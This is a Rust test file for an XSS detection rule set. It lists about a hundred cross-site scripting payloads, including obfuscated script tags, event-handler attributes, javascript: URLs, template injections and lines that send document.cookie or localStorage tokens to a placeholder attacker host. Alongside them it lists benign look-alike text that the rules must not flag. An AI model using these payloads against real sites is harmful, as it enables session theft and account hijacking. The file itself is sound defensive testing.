//! What the rules find, what they leave alone, and that none of them is idle.

use super::RULES;
use crate::regex::RegexSet;

/// One row for each shape of an attack.
const ATTACKS: &[&str] = &[
    // Script elements.
    "<script>alert(1)</script>",
    "\"><ScRiPt >prompt`1`</sCrIpT>",
    "</title><script>/*x*/confirm(document.domain)</script>",
    "<script\n>\nvar a = 1\n</script>",
    "<script/x>new Image</script>",
    "<script type=\"text/javascript\">// x\n  go ()\n</script>",
    "<<script>alert(\"x\");//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>&#97;lert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)",
    "\\x3cscript\\x3ealert(1)<script>throw 1",
    "\\u003cscript>eval(name)",
    "\u{ff1c}script>alert(1)\u{ff1c}/script>",
    "+ADw-script>alert(1)",
    "<script src=//evil.example/x.js></script>",
    "<script/src='data:,alert(1)'>",
    "<SCRIPT a=\">\" SRC=\"http://evil.example/x\">",
    "<svg:script xlink:href = '//evil.example/x' />",
    "<script\u{c}async\u{c}src=http://192.0.2.1:80/a",
    // Attributes that are code.
    "<img src=x onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT></SCRIPT><img src=q OnErRoR = 'x'>",
    "<svg/onload=alert`1`>",
    "<svg\tonload\n=\n\"alert(1)\">",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=confirm()>",
    "<video><source onerror=\"location='//evil.example'\">",
    "<a title=\">\" onmouseover=go()>x</a>",
    "<img/src/onerror=top['al'%2B'ert'](1)>",
    "<x id=x tabindex=1 onactivate=a.b.c>",
    "<input autofocus/onfocus=a=alert,a(1)>",
    "<img src='1'onerror='x'>",
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "<a b={c} onclick={alert(1)}>x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    // Out of an attribute.
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus=document.location=name x='",
    "x\" style=\"position:fixed\" onclick=\"steal()",
    "1%22%20onerror%3Dalert(1)",
    "`onload=`window.x",
    // URLs that are code.
    "javascript:alert(1)",
    "JaVaScRiPt://%0aalert(1)//",
    "java\tscript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)",
    "&#x6A&#x61vascript&colon;alert(1)",
    "j&Tab;a&NewLine;v%0aascript%3Aprompt(1)",
    "[click](javascript:window.onerror=alert;throw%20x)",
    "javascript: document.cookie",
    "javascript:void alert(1)",
    "javascript:var{a:onerror}={a:alert};throw 1",
    "vbscript:msgbox(1)",
    "<iframe src=\"java\nscript:alert(1)\">",
    "data:text/html,<b>x",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<use href=\"data:image/svg+xml;utf8,<svg id='x' xmlns='http://www.w3.org/2000/svg'></svg>#x\">",
    "import('data:text/javascript,alert(1)')",
    // Elements that bring a document.
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<base href=//evil.example/>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=http://evil.example\">",
    "<link rel=import href=x.html>",
    "<object data='//evil.example/x.swf'>",
    "<embed/src=https://evil.example/x.svg>",
    "<svg><set attributeName=onmouseover to=x>",
    "<svg><a><animate attributeName=\"xlink:href\" values=x>",
    // Style that is code.
    "<div style=\"width: expression(alert(1))\">",
    "x:ex/**/pression(alert(1))",
    "-moz-binding: url(http://evil.example/x.xml#a)",
    "<p style='behavior: url(http://evil.example/x.htc)'>",
    // Out of a script.
    "';alert(1)//",
    "\"-confirm(1)-\"",
    "\\'-alert(1)//",
    "\\\");window.location=\"//evil.example\"//",
    "name'});document.body.x=1;({'",
    "%27%3Bprompt(1)//",
    "&apos;-alert(1)-&apos;",
    "${alert(1)}",
    // What scripts steal and how they hide.
    "fetch('https://evil.example/?c='+document.cookie)",
    "new Image().src=`//evil.example/${document.cookie}`",
    "alert(document.domain)",
    "location=\"//evil.example/\"+btoa(localStorage.token)",
    "top['al'+'ert'](1)",
    "self[\"\\x61lert\"](1)",
    "window[/alert/.source](1)",
    "eval(atob('YWxlcnQoMSk='))",
    "eval(String.fromCharCode(97,108,101,114,116,40,49,41))",
    "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]",
    "{onerror=alert}throw 1337",
    "[1].find(alert)",
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "[].sort[`constructor`](`alert(1)`)()",
    "{{x=\"a\"[\"constructor\"].prototype;y.constructor.constructor(z)}}",
];

/// What honest people and their programs say.
const LOOK_ALIKES: &[&str] = &[
    // Prose.
    "I love JavaScript: it runs everywhere!",
    "Javascript: The Good Parts (2008) = still worth it",
    "Alert (1) of 3: the bridge is closed",
    "Prices: a < b and c > d, on sale = today only",
    "we meet on Monday; onset = 3 pm <3",
    "He said \"on error = stop\"; I said no.",
    "it's ok, alert the others (all of them)",
    "The 'document' and 'window' objects differ",
    "O'Brien; location: Dublin",
    "Rock 'n' roll & \"eval\" as a verb",
    "Je t'aime <3 onze = 11",
    "мы <3 скрипт: нажмите (тут)",
    "脚本:在<这里>写(一些)东西",
    "¿Qué es 'script'? <sonrisa>",
    "She texted 'ok', then: open the door (slowly)",
    "expression (of joy): :)",
    "behaviour: url shortener",
    "data: text, html; charset=utf-8",
    "<3 <3 onward = forward",
    "I read \"top\" of the list, (location = Rome)",
    // Tags and what people say about them.
    "<b>bold</b> and <i>italic</i>",
    "put a <script> tag at the end of the <body> (before </body>)",
    "why does <script> block (the parser)?",
    "between <script> and </script> you write code",
    "<img src=\"https://example.com/cat.png\" alt=\"one=1\">",
    "<a href=\"https://example.com/?a=1&once=2\">x</a>",
    "<p class=\"x\" data-on=\"y\">text</p>",
    "<iframe width=\"560\" src=\"https://www.youtube.com/embed/abc\" allowfullscreen></iframe>",
    "<div style=\"color: red; background: url(/a.png)\">x</div>",
    "<base href=\"/\">",
    "<link rel=\"stylesheet\" href=\"https://example.com/a.css\">",
    "<meta charset=\"utf-8\"><meta name=\"viewport\" content=\"width=device-width\">",
    "<svg viewBox=\"0 0 1 1\"><path d=\"M0 0h1\"/></svg>",
    "<animate attributeName=\"opacity\" from=\"0\" to=\"1\"/>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#20013;&#25991;&#23383;&#31526;&#27979;&#35797;&#25991;&#26412;&#20108;&#19977;: ok",
    "mail me: <mailto:onboarding=team@example.com>",
    "see <https://example.com/onboarding?x=1> for more",
    "<user@example.com> wrote:",
    // Code.
    "<Button onClick={save} onChange={e => set(e.target.value)}>Go</Button>",
    "<Foo a=\"b\" onSubmit={() => alert('saved')} />",
    "const [a, setA] = useState<string>(\"x\"); window.a = a;",
    "Vec<Option<T>> -> impl Iterator<Item = T>",
    "if (i<n && online == true) { go(); }",
    "for (let i = 0; i<list.length; i++) { once = true }",
    "console.log(\"a\"); alert(\"b\");",
    "document.getElementById('x').addEventListener('click', () => alert(1))",
    "btn.onclick = function () { location.reload(); };",
    "onmessage = (e) => postMessage(e.data)",
    "<a href=\"javascript:void(0)\">x</a>",
    "<a href=\"javascript:void(0);\" class=\"nav\">x</a>",
    "class A { constructor(private x: string) {} }",
    "obj.constructor.name === 'Foo'",
    "String.fromCharCode(72, 101, 108, 108, 111)",
    "`total: ${sum(items)} of ${alerts.length}`",
    "console.log(document.cookie)",
    "import('./page.js').then(m => m.default())",
    "try { f() } catch { window.location = '/' }",
    "window[\"app\" + id] = el;",
    "a?.['x']?.(y) ?? self.z",
    "template<typename T> void f(T on) { ready=on; }",
    "let f: fn(&'a str) = open;",
    "/<script\\b[^>]*>/gi.test(html)",
    "{% if a < b %}<li>{{ item.name }}</li>{% endif %}",
    "- [ ] use `<img onerror>` sparingly",
    "SELECT * FROM t WHERE a<b AND only = 1",
    "type: \"text/javascript\", src: \"/a.js\"",
    // Machine text.
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==",
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0i",
    "data:application/json;base64,eyJhIjoxfQ==",
    "text/html; charset=utf-8",
    "default-src 'self'; script-src 'unsafe-inline' https://cdn.example.com",
    "https://example.com/search?q=%3Cb%3Ebold%3C%2Fb%3E&on=1",
    "C:\\Users\\O'Neil\\scripts\\alert.js",
    "550e8400-e29b-41d4-a716-446655440000",
    "onerror",
    "javascript:",
    "{\"event\":\"onload\",\"handler\":\"init\"}",
];

fn set(rules: &[(&str, &str)]) -> RegexSet {
    RegexSet::new(rules.iter().map(|(_, pattern)| *pattern)).unwrap()
}

/// Whether each of `texts` is found, or none of them.
#[track_caller]
fn check(texts: &[&str], found: bool) {
    let rules = set(RULES);
    let name = |text: &str| rules.first_match(text).map(|index| RULES[index].0);
    let wrong: Vec<_> = texts.iter().map(|text| (text, name(text))).filter(|row| row.1.is_some() != found).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn attacks_are_found() {
    check(ATTACKS, true);
}

#[test]
fn look_alikes_are_left_alone() {
    check(LOOK_ALIKES, false);
}

#[test]
fn every_rule_finds_what_the_others_miss() {
    for (index, (name, _)) in RULES.iter().enumerate() {
        let others = set(&[&RULES[..index], &RULES[index + 1..]].concat());
        assert!(ATTACKS.iter().any(|text| others.first_match(text).is_none()), "{name} finds nothing by itself");
    }
}
